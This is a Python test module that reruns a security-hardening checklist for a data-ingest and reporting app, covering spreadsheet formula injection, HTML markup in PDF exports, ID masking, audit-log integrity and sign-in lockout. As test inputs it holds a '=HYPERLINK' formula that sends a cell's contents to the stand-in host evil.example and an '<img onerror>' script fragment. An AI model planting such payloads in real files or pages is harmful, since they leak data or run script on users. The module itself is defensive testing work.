"""Rerun every case of the hardening issue and compare what happens with what must happen.

    .venv/bin/python -m tests.hostile_corpus          # the expected = observed table (Markdown)

The drop cases come from the committed corpus (``tests/fixtures/drops/hostile/``, built by
``build_fixtures.py``): each is laid over ``mini/`` and ingested. The other cases (exports,
HTML, masking, audit, accounts, as-of dates) are rerun here on small inputs. The table in
``security/README.md`` is this module's output; ``tests/test_hostile_corpus.py`` checks every
row and that the README's copy is current. Exits 1 when any row differs.
"""

from __future__ import annotations

import csv
import io
import shutil
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pandas as pd

from config import get_settings
from etl.errors import DropError
from etl.pipeline import IngestResult, ingest_drop
from tests.fixtures.drops.build_fixtures import CASES, HERE, HOSTILE

ROOT = Path(__file__).resolve().parents[1]
MINI = HERE / "mini"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@dataclass(frozen=True)
class Row:
    """One line of the table: issue item, case, what was planted, where, what must happen, what
    did, and whether they agree (equal, or for a refusal: the error holds the expected words)."""

    item: str
    case: str
    fault: str
    where: str
    expected: str
    observed: str
    ok: bool


def expectations() -> pd.DataFrame:
    """``hostile/expected.csv``."""
    return pd.read_csv(HOSTILE / "expected.csv", dtype=str, keep_default_na=False)


def corpus_drop(case: str, folder: Path) -> Path:
    """``mini/`` with the files of ``hostile/<case>/`` laid over it, in ``folder/drop``."""
    drop = folder / "drop"
    shutil.copytree(MINI, drop)
    for path in sorted((HOSTILE / case).iterdir()):
        if path.suffix == ".removed":
            (drop / path.stem).unlink()
        else:
            shutil.copy(path, drop / path.name)
    return drop


def _describe(result: IngestResult | None, error: str, want: pd.Series) -> str:
    """What happened to one planted fault, in the words of ``expected.csv``."""
    if want["outcome"] == "refuse":
        return error or "not refused: ingested"
    if result is None:
        return f"refused: {error}"
    if want["outcome"] == "complete":
        entry = next(f for f in result.report["files"] if f["file"] == want["file"])
        return f"read {entry['rows_read']} = loaded {entry['rows_loaded']} + quarantined {entry['rows_quarantined']}"
    quarantine = result.quarantine
    here = quarantine[(quarantine["file"] == want["file"]) & (quarantine["row"] == int(want["row"]))]
    if want["outcome"] == "quarantine":
        if here.empty:
            return "not quarantined"
        line = int(here["line"].iloc[0])
        where = "" if line == int(want["line"]) else f" (at line {line}, not {want['line']})"
        return str(here["reason"].iloc[0]) + where
    if not here.empty:
        return f"quarantined: {here['reason'].iloc[0]}"
    tables = {"calls.csv": (result.tables.calls, "call_id", "narrative"),
              "reports.csv": (result.tables.reports, "report_id", "dispute_ref")}  # fmt: skip
    frame, key, column = tables[want["file"]]
    values = frame.loc[frame[key] == want["key"], column]
    return str(values.iloc[0]) if len(values) else "missing"


def observe_case(case: str) -> list[tuple[pd.Series, str]]:
    """Each expectation of ``case`` with what the ingest of its drop did."""
    wanted = expectations()
    wanted = wanted[wanted["case"] == case]
    with tempfile.TemporaryDirectory() as scratch:
        result, error = None, ""
        try:
            result = ingest_drop(corpus_drop(case, Path(scratch)))
        except DropError as exc:
            error = str(exc)
    return [(want, _describe(result, error, want)) for _, want in wanted.iterrows()]


def _short(text: str, limit: int = 190) -> str:
    text = text.replace("|", "\\|").replace("\n", " ")
    return text if len(text) <= limit else text[: limit - 1] + "…"


def corpus_rows() -> list[Row]:
    """The table rows of the drop corpus."""
    rows = []
    for case, (item, fault, _) in CASES.items():
        for want, observed in observe_case(case):
            verb = {"quarantine": "quarantined", "refuse": "drop refused", "loaded": "loaded verbatim",
                    "complete": "ingest completes"}[want["outcome"]]  # fmt: skip
            place = (
                f"{want['file']} row {want['row']}, line {want['line']}"
                if want["row"] != "0"
                else want["file"]
            )
            ok = want["expected"] in observed if want["outcome"] == "refuse" else want["expected"] == observed
            rows.append(
                Row(item, case, fault, f"{verb}: {place}", _short(want["expected"]), _short(observed), ok)
            )
    return rows


# --- the cases that are not drops ---------------------------------------------------------------


def check_export_cells() -> str:
    from ui.exports import csv_bytes, xlsx_bytes

    frame = pd.DataFrame(
        {"dispute_id": [HYPERLINK, "+1", "-2", "@SUM(A1)"], "probability": [0.5, -0.1, 0, 1]}
    )
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"ranking": frame})))
    cells = [c for row in book["ranking"].iter_rows(min_row=2) for c in row]
    formulas = sum(c.data_type == "f" for c in cells)
    quoted = sum(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
    numbers = sum(isinstance(c.value, int | float) for c in cells)
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))[1:]
    csv_quoted = sum(r[0].startswith("'") for r in rows)
    return f"XLSX: {formulas} formula cells, {quoted}/4 texts quoted, {numbers}/4 numbers; CSV: {csv_quoted}/4 quoted"


def check_audit_export() -> str:
    from security.audit import AuditLog, export_entries

    with tempfile.TemporaryDirectory() as scratch:
        log = AuditLog(Path(scratch) / "audit.log")
        log.record(HYPERLINK, "", "login", f"user:{HYPERLINK}", detail={"ok": False})
        export_entries(log.path, Path(scratch) / "audit.csv")
        row = next(csv.DictReader(io.StringIO((Path(scratch) / "audit.csv").read_text(encoding="utf-8-sig"))))
    return "user cell starts with '" if row["user"] == "'" + HYPERLINK else f"user cell {row['user']!r}"


def check_review_pdf() -> str:
    from tests.test_exports import hostile_review, pdf_text
    from ui.i18n import set_language
    from ui.review_export import review_pdf

    set_language("zh")
    try:
        pdf = review_pdf(hostile_review(), "月度研判")
    except ValueError as exc:
        return f"crashed: {exc}"
    links = pdf.count(b"/URI")
    printed = "<img src=x onerror=" in pdf_text(pdf)
    return f"PDF built, {links} links, markup printed as text: {'yes' if printed else 'no'}"


def check_unsafe_html() -> str:
    sources = [ROOT / "app.py", *(ROOT / "ui").rglob("*.py")]
    return f"{sum(p.read_text(encoding='utf-8').count('unsafe_allow_html=True') for p in sources)} uses"


ISSUE_MASKING = ["ID420502198001010011", "42050219800101002Xabc", "420502-19800101-0046", "138.0000.0001",
                 "(138)00000002", "1 3 8 0 0 0 0 0 0 0 2"]  # fmt: skip


def check_masking() -> str:
    from security.masking import mask_text

    masked = [mask_text(v) for v in ISSUE_MASKING]
    kept = sum("****" in m for m in masked)
    return f"{kept} of {len(ISSUE_MASKING)} masked"


def check_address_id() -> str:
    from security.masking import mask_person_columns
    from security.policy import Role

    frame = pd.DataFrame({"address": ["西陵区夜明珠街道东山社区三组12号 身份证420502198001010011"]})
    shown = mask_person_columns(frame, Role.GRID_WORKER)["address"].iloc[0]
    return "masked" if "19800101" not in shown else f"shown raw: {shown}"


def check_name_variant() -> str:
    from security.audit import AuditLog
    from tests.fixtures_tables import tiny_tables
    from tests.test_security_scope import scoped

    tables = tiny_tables()
    records = tables.person_records.copy()
    records.loc[3, "name"] = "张炜"
    calls = tables.calls.copy()
    calls.loc[1, "narrative"] = "张炜再次与刘芳争吵"
    with tempfile.TemporaryDirectory() as scratch:
        run = scoped("data_scientist", AuditLog(Path(scratch) / "a.log"),
                     tables=replace(tables, person_records=records, calls=calls))  # fmt: skip
        text = run.pseudonymised("calls").set_index("call_id").loc["C2", "narrative"]
    return "every spelling removed" if "张炜" not in text and "刘芳" not in text else f"left: {text}"


def check_torn_line() -> str:
    from security.audit import AuditLog, gaps, read_entries, verify

    with tempfile.TemporaryDirectory() as scratch:
        log = AuditLog(Path(scratch) / "audit.log")
        for i in range(3):
            log.record("u", "analyst", "view", f"dispute:D{i}")
        data = log.path.read_bytes()
        log.path.write_bytes(data[: len(data) - 40])
        try:
            log.record("u", "analyst", "view", "dispute:D9")
            read_entries(log.path)
        except ValueError as exc:
            return f"raises: {exc}"
        return f"record/read work; {len(gaps(log.path))} gap recorded; chain ok: {verify(log.path)[0]}"


def check_signin_index() -> str:
    from security.signin import account_lock

    with tempfile.TemporaryDirectory() as scratch:
        s = get_settings({"USERS_FILE": f"{scratch}/users.json", "AUDIT_LOG": f"{scratch}/audit.log"})
        line = '{"seq": 1, "action": "login", "object": "user:commander", "detail": {"ok": false}}\n'
        s.audit_log.write_text(line * 90_000, encoding="utf-8")
        started = time.perf_counter()
        account_lock("commander", s)
        took = time.perf_counter() - started
    return "under 10 ms at 90,000 entries" if took < 0.01 else f"{took:.3f} s at 90,000 entries"


def _demo_settings(scratch: str, mode: str = "demo"):
    return get_settings(
        {"APP_MODE": mode, "USERS_FILE": f"{scratch}/users.json", "AUDIT_LOG": f"{scratch}/audit.log"}
    )


def check_weak_password() -> str:
    from security.audit import AuditLog
    from security.signin import login
    from security.user_store import create_user

    with tempfile.TemporaryDirectory() as scratch:
        create_user(_demo_settings(scratch).users_file, "wang", "1", "analyst", mode="demo")
        production = _demo_settings(scratch, "production")
        session = login("wang", "1", AuditLog(production.audit_log), production)
    return "refused" if session is None else "signed in"


def check_disabled_session() -> str:
    from security.audit import AuditLog
    from security.provisioning import ensure_users
    from security.scoped import AccessDenied, ScopedRun
    from security.signin import login
    from security.user_store import disable_user
    from tests.fixtures_tables import tiny_tables
    from tests.test_security_scope import tiny_scores

    with tempfile.TemporaryDirectory() as scratch:
        s = _demo_settings(scratch)
        ensure_users(s, tiny_tables().staff)
        audit = AuditLog(s.audit_log)
        session = login("commander", "demo-commander", audit, s)
        assert session is not None
        run = ScopedRun.for_session(session, tiny_tables(), tiny_scores(), s)
        run.ranking()
        disable_user(s, "commander", audit)
        try:
            run.ranking()
        except AccessDenied as exc:
            return "next query refused (" + str(exc).split(": ", 1)[1].split(";")[0] + ")"
    return "still answered"


def check_commander_lockout() -> str:
    from security.audit import AuditLog
    from security.provisioning import ensure_users
    from security.signin import SignInClient, account_lock, login
    from tests.fixtures_tables import tiny_tables

    with tempfile.TemporaryDirectory() as scratch:
        s = _demo_settings(scratch)
        ensure_users(s, tiny_tables().staff)
        audit, own = AuditLog(s.audit_log), SignInClient()
        at = datetime(2025, 11, 20, 8, 0, tzinfo=UTC)
        login("commander", "demo-commander", audit, s, at, client=own)
        longest = timedelta(0)
        for _ in range(12):  # an attacker trying again the moment each wait ends
            login("commander", "wrong", audit, s, at, client=SignInClient())
            wait = account_lock("commander", s, at).locked_until
            longest = max(longest, (wait - at) if wait else timedelta(0))
            at += max(wait - at if wait else timedelta(0), timedelta(seconds=1))
        held = login("commander", "demo-commander", audit, s, at - timedelta(seconds=1), client=own) is None
    return f"longest wait {int(longest.total_seconds())} s; own session held: {'yes' if held else 'no'}"


def check_as_of(as_of: str) -> Callable[[], str]:
    def check() -> str:
        from jobs.batch import run_job
        from register.store import Register

        with (
            tempfile.TemporaryDirectory() as scratch,
            Register(f"sqlite:///{scratch}/register.db") as register,
        ):
            out = Path(scratch) / "run"
            try:
                run_job(MINI, as_of, out, store="memory", register=register)
            except DropError:
                return "refused before any output" if not out.exists() else "refused, output left behind"
        return "ran"

    return check


CHECKS: list[tuple[str, str, str, str, Callable[[], str]]] = [
    ("1", "export_cells", "ranking CSV/XLSX holding `=HYPERLINK(…)`, `+1`, `-2`, `@SUM`",
     "XLSX: 0 formula cells, 4/4 texts quoted, 4/4 numbers; CSV: 4/4 quoted", check_export_cells),
    ("1", "audit_export", "a username `=HYPERLINK(…)` typed at sign-in, in the audit export",
     "user cell starts with '", check_audit_export),
    ("7", "review_pdf", "review PDF with dispute_refs `<img … onerror>` and `<a href=…>`",
     "PDF built, 0 links, markup printed as text: yes", check_review_pdf),
    ("7", "unsafe_html", "`unsafe_allow_html=True` in app.py and ui/", "0 uses", check_unsafe_html),
    ("8", "masking_formats", "the six ID/phone spellings of the issue in free text", "6 of 6 masked", check_masking),
    ("8", "address_id", "an ID number inside an address, grid worker's view", "masked", check_address_id),
    ("8", "name_variant", "a typo'd name variant in a narrative, scientist's view", "every spelling removed",
     check_name_variant),
    ("9", "torn_line", "the audit log's last line half written",
     "record/read work; 1 gap recorded; chain ok: True", check_torn_line),
    ("9", "signin_index", "the sign-in check beside a 90,000-entry audit log", "under 10 ms at 90,000 entries",
     check_signin_index),
    ("10", "weak_password", "a demo-mode user with password `1` signing in under production", "refused",
     check_weak_password),
    ("10", "disabled_session", "a disabled user's live session", "next query refused (account disabled)",
     check_disabled_session),
    ("10", "commander_lockout", "an attacker failing on `commander` each time the wait ends",
     "longest wait 60 s; own session held: no", check_commander_lockout),
    ("11", "as_of_before", "`run` as of 2020-01-01, before the data", "refused before any output",
     check_as_of("2020-01-01")),
    ("11", "as_of_after", "`run` as of 2030-01-01, years after the data", "refused before any output",
     check_as_of("2030-01-01")),
]  # fmt: skip


def check_rows() -> list[Row]:
    """The table rows of the cases that are not drops."""
    rows = []
    for item, case, fault, expected, check in CHECKS:
        observed = check()
        rows.append(Row(item, case, fault, "rerun here", expected, observed, observed == expected))
    return rows


def table(rows: list[Row]) -> str:
    """The rows as a Markdown table."""
    lines = [
        "| item | case | planted | outcome, where | expected | observed | = |",
        "|---|---|---|---|---|---|---|",
    ]
    lines += [
        f"| {r.item} | `{r.case}` | {r.fault} | {r.where} | {r.expected} | {r.observed} | {'✓' if r.ok else '✗'} |"
        for r in rows
    ]
    return "\n".join(lines)


def main() -> int:
    """Print the table; exit 1 when a row's observation differs from its expectation."""
    rows = corpus_rows() + check_rows()
    print(table(rows))
    return 0 if all(r.ok for r in rows) else 1


if __name__ == "__main__":
    sys.exit(main())
